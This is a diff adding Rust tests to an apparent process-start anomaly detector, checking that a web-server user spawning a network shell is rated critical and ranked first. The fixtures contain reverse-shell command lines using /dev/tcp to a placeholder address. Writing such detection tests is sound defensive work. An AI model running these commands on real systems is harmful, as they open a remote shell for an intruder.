@@ -260,6 +260,57 @@ fn odd_starts_are_said_and_the_oddest_are_told() {
 }
 
 #[test]
+fn a_worse_start_does_not_hide_behind_a_lesser_one_before_it() {
+    let mut lines = ordinary();
+    let lesser = r#""pid":9001,"ppid":412,"uid":0,"user":"root","command_line":"bash -c backup""#;
+    lines.push(start(361, "bash", lesser));
+    let worse = r#""pid":9002,"uid":33,"parent_name":"nginx","command_line":"sh -c 'exec 3<>/dev/tcp/192.0.2.7/443'""#;
+    lines.push(start(362, "sh", worse));
+    let run = Run::over(&lines, Config::default(), usize::MAX);
+    assert_eq!(run.severity_of("a server started"), Some(Severity::Critical), "{:#?}", run.said());
+    let titles: Vec<String> = run.odd_starts().into_iter().map(|item| item.title).collect();
+    assert!(titles.len() == 2 && titles[0].contains("“sh” by “nginx”"), "{titles:#?}");
+    assert!(titles[1].contains("“bash” by “cron”"), "{titles:#?}");
+}
+
+#[test]
+fn of_starts_that_are_odd_for_one_reason_the_oddest_is_told() {
+    let mut lines = ordinary();
+    let of = |line: &str| format!(r#""uid":33,"parent_name":"nginx","command_line":"{line}""#);
+    for (minute, line) in [(361, "sh -c id"), (363, "sh -i >& /dev/tcp/192.0.2.7/443"), (365, "sh")]
+    {
+        lines.push(start(minute, "sh", &of(line)));
+    }
+    let items = Run::over(&lines, Config::default(), usize::MAX).odd_starts();
+    assert_eq!(items.len(), 1, "{items:#?}");
+    assert!(items[0].what.contains("/dev/tcp/192.0.2.7"), "{}", items[0].what);
+}
+
+#[test]
+fn a_long_command_line_hides_no_start() {
+    let long = "A".repeat(600_000);
+    let whole = start(
+        361,
+        "sh",
+        &format!(r#""uid":33,"parent_name":"nginx","command_line":"sh -i /dev/tcp/ {long}""#),
+    );
+    let time = Timestamp::from_secs(START + 60 * 361);
+    let cut_before_the_name = format!(
+        r#"{{"command_line":"sh -i /dev/tcp/ {long}","host":"oak","timestamp":"{time}","process_name":"sh"}}"#
+    );
+    for (line, reason) in [
+        (&whole[..], "a server started"),
+        (&whole[..500_000], "a server started"),
+        (&cut_before_the_name[..500_000], "gives a shell over the network"),
+    ] {
+        let mut lines = ordinary();
+        lines.push(line.to_owned());
+        let run = Run::over(&lines, Config::default(), usize::MAX);
+        assert!(run.severity_of(reason).is_some(), "{reason}: {:?}", run.said());
+    }
+}
+
+#[test]
 fn windows_has_its_own_rules() {
     let mut lines = ordinary();
     lines.push(format!(
